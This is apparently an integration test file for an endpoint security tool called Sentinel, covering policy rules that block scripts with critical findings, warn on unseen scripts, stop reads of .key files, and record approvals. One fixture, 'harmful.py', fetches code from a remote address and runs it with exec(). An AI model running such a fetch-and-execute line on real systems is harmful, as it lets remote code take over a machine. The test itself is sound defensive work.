// A policy in force on a whole Sentinel: put in force by the command line, held to by programs that nobody told of it.

import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { eventually, Sentinel } from './harness/sentinel.ts'

let sentinel: Sentinel
beforeAll(async () => {
  sentinel = new Sentinel()
  await sentinel.up()
})
afterAll(() => sentinel[Symbol.asyncDispose]())

const policy = `policy: own
title: Nothing unread
contact: the data team
rules:
  - id: critical
    title: A script with a critical finding
    on: run.started
    when: script.worst.atLeast('critical')
    mode: deny
    fail: closed
    wait: 10000
    reason: it must not be run as it is
  - id: unknown
    title: A script that was never run before
    on: run.started
    when: "!script.known && !script.approved"
    mode: warn
    reason: nobody has looked at it yet
  - id: pilots
    title: A key file is read
    on: file.opened
    when: file.path.endsWith('.key')
    mode: deny
    reason: keys stay where they are
    rollout: { groups: [pilot] }
`

function script(name: string, text: string): string {
  mkdirSync(join(sentinel.data, 'scripts'), { recursive: true })
  const path = join(sentinel.data, 'scripts', name)
  writeFileSync(path, text)
  return path
}

async function apply(text: string): Promise<void> {
  const file = script('policy.yaml', text)
  const { code, stderr, stdout } = await sentinel.cli(['policy', 'apply', file, '--json'])
  expect({ code, stderr }).toMatchObject({ code: 0 })
  const { version } = JSON.parse(stdout)
  await eventually(async () => {
    const { holders } = await sentinel.call('policyVerdicts', { query: {} })
    return holders[0]?.version === version ? true : undefined
  })
}

it('a script that was never seen is read before it runs: stopped for what is in it, or warned of once', async () => {
  await apply(policy)
  const harmful = script(
    'harmful.py',
    'import urllib.request\nprint("it ran")\nexec(urllib.request.urlopen("http://203.0.113.9/stage2").read())\n',
  )
  const stopped = await sentinel.python([harmful])
  expect(stopped).toMatchObject({ code: 1, stdout: '' })
  expect(stopped.stderr).toMatch(
    /^Sentinel stopped: a script with a critical finding \(.*harmful\.py\), because it must not be run as it is; ask the data team and quote [0-9a-f]{8} \(rule critical\)\.\n$/,
  )
  // On a machine that is slow the reading may take longer than the rule waits: then it is another script's turn.
  let tried = 0
  await eventually(async () => {
    const { code, stdout, stderr } = await sentinel.python([
      script(`fine-${tried++}.py`, `print(${tried})\n`),
    ])
    const isWarned = stderr.startsWith('Sentinel warns: a script that was never run before')
    return code === 0 && stdout === `${tried}\n` && isWarned ? true : undefined
  }, 60_000)
  await eventually(async () => {
    const again = await sentinel.python([join(sentinel.data, 'scripts', `fine-${tried - 1}.py`)])
    return again.stderr === '' ? again : undefined
  })
}, 120_000)

it('a rule that is rolled out to a group stops where the endpoint belongs to it', async () => {
  const path = script('secret.key', 'x')
  const reader = script('reader.py', `open(${JSON.stringify(path)}).close()\nprint("read")\n`)
  await eventually(async () => ((await sentinel.python([reader])).stdout === 'read\n' ? true : undefined))
  const [endpoint] = (await sentinel.call('endpoints', { query: {} })).endpoints
  expect((await sentinel.cli(['policy', 'group', 'pilot', endpoint?.name ?? ''])).code).toBe(0)
  const stopped = await eventually(async () => {
    const result = await sentinel.python([reader])
    return result.code === 1 ? result : undefined
  })
  expect(stopped.stderr).toContain('Sentinel stopped: a key file is read')
})

it('what a rule stops is asked for, approved for a time, let through, withdrawn, and all of it is evidence', async () => {
  const reader = join(sentinel.data, 'scripts/reader.py')
  const asked = await sentinel.cli([
    'request',
    reader,
    '--reason',
    'a yearly renewal',
    '--rule',
    'pilots',
    '--json',
  ])
  const { request } = JSON.parse(asked.stdout)
  const told = await eventually(async () => {
    const { requests } = await sentinel.call('approvals')
    return requests.find((one) => one.request === request)
  })
  expect(told).toMatchObject({ rule: 'pilots', reason: 'a yearly renewal', script: { path: reader } })
  expect((await sentinel.cli(['approvals'])).stdout).toContain('a yearly renewal')

  const given = await sentinel.cli(['approvals', 'give', request.slice(0, 8), '--for', '30m', '--json'])
  const approval = JSON.parse(given.stdout)
  expect(approval).toMatchObject({ rule: 'pilots', account: told.account.name, withdrawn: null })
  await eventually(async () => ((await sentinel.python([reader])).stdout === 'read\n' ? true : undefined))
  // Of this script only: another one is stopped as before.
  const other = script(
    'other.py',
    `open(${JSON.stringify(join(sentinel.data, 'scripts/secret.key'))}).close()\n`,
  )
  await eventually(async () =>
    (await sentinel.python([other])).stderr.includes('a key file is read') ? true : undefined,
  )

  expect((await sentinel.cli(['approvals', 'withdraw', approval.id])).code).toBe(0)
  await eventually(async () => ((await sentinel.python([reader])).code === 1 ? true : undefined))
  const { stdout } = await sentinel.cli(['verify'])
  expect(stdout).toMatch(/record/)
  const log = allRecords(join(sentinel.data, 'record/segments'))
  for (const type of ['approval.requested', 'grants.adopted', 'policy.adopted'])
    expect(log).toContain(`"type":"${type}"`)
  expect(log).toContain(approval.id)
}, 90_000)

const allRecords = (folder: string) =>
  readdirSync(folder)
    .map((name) => readFileSync(join(folder, name), 'utf8'))
    .join('')
